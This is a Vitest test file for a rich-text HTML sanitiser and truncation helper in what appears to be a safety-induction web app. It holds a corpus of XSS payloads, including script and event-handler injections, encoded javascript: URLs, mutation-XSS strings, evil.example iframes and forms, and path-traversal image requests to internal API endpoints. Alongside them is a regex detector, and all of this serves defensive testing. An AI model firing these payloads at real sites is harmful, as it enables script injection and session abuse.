import { describe, expect, it } from 'vitest';
import { prepareRichText, sanitizeRichText } from './rich-text.ts';

/** Payloads that try to run script through every door an HTML sanitiser must close. */
const xssCorpus = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/files/a.png" onerror="alert(1)">',
  '<p onclick="alert(1)">click</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)><circle r=1></circle></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=x><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<div><details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '"><script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<img src="https://evil.example/track.gif">',
  // An image's address is fetched with the reader's cookies (decision 50).
  '<img src="/api/files/../inductions/7/progress/53/summary?cloud=true">',
  '<img src="/api/files/identity/0b8f6c1e-2f4a-4c3b-9d1e-5a6b7c8d9e0f.jpg">',
  '<a href="//evil.example">protocol-relative</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

/** Whether any executable or foreign content survived. */
function hasExecutableContent(html: string): boolean {
  return (
    /<\s*(script|style|iframe|object|embed|svg|math|form|input|button|meta|base|link|details|video|source|body)\b/i.test(
      html,
    ) ||
    /\son[a-z]+\s*=/i.test(html) ||
    /(href|src)\s*=\s*"?\s*(javascript|vbscript|data):/i.test(html) ||
    /(href|src)\s*=\s*"?\s*\/\//i.test(html) ||
    /<\s*img\b/i.test(html) ||
    /\sstyle\s*=/i.test(html)
  );
}

describe('sanitizeRichText', () => {
  it.each(xssCorpus)('leaves nothing executable of %s', (payload) => {
    const clean = sanitizeRichText(payload);
    expect(hasExecutableContent(clean), clean).toBe(false);
    // Sanitising is stable: a second pass changes nothing.
    expect(sanitizeRichText(clean)).toBe(clean);
  });

  it('keeps the formatting safety managers use', () => {
    const html =
      '<h2>Exclusion zone</h2><p><strong>Never</strong> stand <em>under</em> a <u>suspended</u> load.</p>' +
      '<ul><li>Wear a hard hat</li></ul><ol><li>Stop</li></ol>' +
      '<table><thead><tr><th>Crane</th></tr></thead><tbody><tr><td>Franna</td></tr></tbody></table>';
    expect(sanitizeRichText(html)).toBe(html);
  });

  it('keeps no image, whatever its address (decision 50)', () => {
    for (const src of [
      '/api/files/abc.png',
      '/api/files/../admin/completions/export',
      '/api/files/identity/0b8f6c1e-2f4a-4c3b-9d1e-5a6b7c8d9e0f.jpg',
      '/api/files/%2e%2e/admin/audit',
    ]) {
      expect(sanitizeRichText(`<p>Zone<img src="${src}" alt="zone"></p>`)).toBe('<p>Zone</p>');
    }
  });

  it('keeps http, https and mailto links and makes them open safely', () => {
    expect(sanitizeRichText('<a href="https://safework.example/guide">guide</a>')).toBe(
      '<a href="https://safework.example/guide" target="_blank" rel="noopener noreferrer">guide</a>',
    );
    expect(sanitizeRichText('<a href="mailto:safety@crane.example">mail</a>')).toContain(
      'href="mailto:safety@crane.example"',
    );
  });
});

describe('prepareRichText', () => {
  it('keeps text of 10000 characters whole', () => {
    const text = 'a'.repeat(10000);
    expect(prepareRichText(text)).toBe(text);
  });

  it('cuts text over 10000 characters to 9990 plus an ellipsis', () => {
    const text = 'b'.repeat(10001);
    expect(prepareRichText(text)).toBe(`${'b'.repeat(9990)}...`);
  });

  it('never leaves a tag half-open when the cut falls inside one', () => {
    const html = `<p>${'c'.repeat(9980)}</p><p><a href="https://example.com/a-long-address">link</a></p>`;
    const prepared = prepareRichText(html);
    expect(prepared.startsWith(`<p>${'c'.repeat(9980)}</p>`)).toBe(true);
    expect(prepared).not.toMatch(/<[^>]*$/);
  });
});
